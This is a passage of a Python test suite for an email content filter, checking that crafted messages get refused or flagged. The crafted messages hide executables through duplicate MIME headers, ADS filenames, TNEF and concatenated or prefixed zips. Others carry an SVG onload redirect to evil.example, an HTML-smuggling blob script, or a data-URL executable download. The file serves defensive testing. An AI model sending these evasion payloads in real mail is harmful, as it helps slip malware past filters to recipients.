            b"Content-Type: application/octet-stream\r\n"
            b'Content-Disposition: attachment; filename="setup.exe::$DATA"'
            b"\r\n")), "setup.exe"),
        ("concatenated zips", multipart(zip_part(
            zip_of([("readme.txt", b"hi")]) + zip_of([("setup.exe", b"MZ")]))),
         "setup.exe"),
        # Outlook shows winmail.dat's files as attachments of their own
        ("TNEF", multipart(
            b'Content-Type: application/ms-tnef; name="winmail.dat"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n" +
            base64_lines(tnef(b"setup.exe", b"MZ"))), "setup.exe"),
        ("zip behind a prefix", multipart(zip_part(
            b"%PDF-1.4\n" + b"x" * 1000 + zip_of([("setup.exe", b"MZ")]))),
         "setup.exe"),
        ("two filename parameters", multipart(exe_part(
            b"Content-Type: application/octet-stream\r\n"
            b'Content-Disposition: attachment; filename="readme.txt"; '
            b'filename="setup.exe"\r\n')), "two different filename"),
        ("two Content-Disposition fields", multipart(exe_part(
            b"Content-Type: application/octet-stream\r\n"
            b'Content-Disposition: attachment; filename="setup.exe"\r\n'
            b'Content-Disposition: attachment; filename="readme.txt"\r\n')),
         "two different Content-Disposition"),
        # GMime takes the first boundary, a client the last: the .exe
        # would hide in what the filters took for a preamble
        ("two boundaries", multipart(exe_part(
            b"Content-Type: application/octet-stream\r\n"
            b'Content-Disposition: attachment; filename="setup.exe"\r\n'
            )).replace(b'boundary="b"', b'boundary="x"; boundary="b"'),
         "two different boundary"),
        ("two Content-Type fields", multipart(exe_part(
            b"Content-Type: application/octet-stream\r\n"
            b'Content-Disposition: attachment; filename="setup.exe"\r\n'
            )).replace(b"\r\n\r\n--b", b"\r\nContent-Type: text/plain"
                       b"\r\n\r\n--b", 1), "two different Content-Type"),
    ]
    for name, raw, needle in cases:
        code, text = send(content, raw)
        assert code == 554, (name, code, text)
        assert needle in text, (name, text)


def test_active_content_in_attachments(content):
    """Script in attached SVG and HTML files: an SVG that runs code and an
    HTML page assembling a file in the browser (HTML smuggling) are
    refused; an HTML report with script, or a page asking for a password,
    is delivered with its symbol."""
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.location='
           b"'https://evil.example/'\"/>")
    smuggling = (b"<html><script>var d=atob('TVqQAAM=');var b=new Blob([d])"
                 b";navigator.msSaveOrOpenBlob(b,'a.iso');</script></html>")
    for name, ctype, data, needle in (
            ("logo.svg", "image/svg+xml", svg, "logo.svg"),
            ("Invoice.html", "text/html", smuggling, "Invoice.html")):
        code, text = send(content, mail([(name, data, ctype)]))
        assert code == 554, (name, code, text)
        assert needle in text, text
    code, _ = send(content, mail([(
        "statement.html", b"<html><form>PIN: <input type=password>"
        b"</form><script>check()</script></html>", "text/html")]))
    assert code == 250
    log = message_log(content, 3)
    assert log[-1][0] == "continue", log[-1]
    assert {"ATTACH_HTML_SCRIPT", "ATTACH_HTML_PASSWORD"} <= set(log[-1][2])


def test_files_in_data_urls(content):
    """HTML smuggling without script: a data: URL carrying a file, in an
    attached page or in the message's own HTML body, is decoded and
    checked like an attachment (its download name, declared and detected
    type, EICAR by ClamAV anyway); an inline data: image is not a file to
    refuse."""
    pe = base64.b64encode(pe_header())
    link = (b'<html><body><a href="data:application/octet-stream;base64,' +
            pe + b'"\r\n download="Invoice.exe">Invoice</a></body></html>')
    code, text = send(content, mail([("Invoice.html", link, "text/html")]))
    assert code == 554 and "Invoice.exe" in text, text
    anonymous = link.replace(b'\r\n download="Invoice.exe"', b"")
    body = (RAW_HEAD + b"Content-Type: text/html\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" +
            base64_lines(anonymous))
    code, text = send(content, body)
    assert code == 554 and text.startswith("5.7.1 "), text
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(64))
    newsletter = (RAW_HEAD + b"Content-Type: text/html\r\n\r\n"
                  b'<html><img src="data:image/png;base64,' + png +
                  b'"><p>News</p></html>\r\n')
    code, text = send(content, newsletter)
    assert code == 250, text


def tnef(title, data):
    """A TNEF stream (winmail.dat) of one attachment."""
    def attr(level, ident, payload):
        return (bytes([level]) + ident.to_bytes(4, "little") +
                len(payload).to_bytes(4, "little") + payload +
                (sum(payload) & 0xffff).to_bytes(2, "little"))
    return (b"\x78\x9f\x3e\x22\x01\x00" +
            attr(1, 0x00089006, b"\0\0\1\0") +
            attr(2, 0x00069002, b"\1" + bytes(13)) +
            attr(2, 0x00018010, title + b"\0") +
            attr(2, 0x0006800f, data))


def zip_part(data):
    return (b"Content-Type: application/pdf\r\nContent-Disposition: "
            b'attachment; filename="a.pdf"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n" +
            base64_lines(data))


def uuencode_lines(data):
    """data as uuencode(1) writes a file's lines (CRLF), with the last,
    empty line before "end"."""
    return b"".join(binascii.b2a_uu(data[i:i + 45], backtick=True)
                    .replace(b"\n", b"\r\n")
                    for i in range(0, len(data), 45)) + b"`\r\n"


def pe_header():
    """The first bytes of a Windows executable (MZ, DOS stub, PE)."""
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    mz = bytearray(128)
    mz[0:2] = b"MZ"
    mz[0x3c:0x40] = (128).to_bytes(4, "little")
    mz[0x4e:0x4e + len(stub)] = stub
    return bytes(mz) + b"PE\0\0" + b"\x4c\x01\x03\x00" + bytes(64)


def base64_lines(data):
    return base64.encodebytes(data).replace(b"\n", b"\r\n")
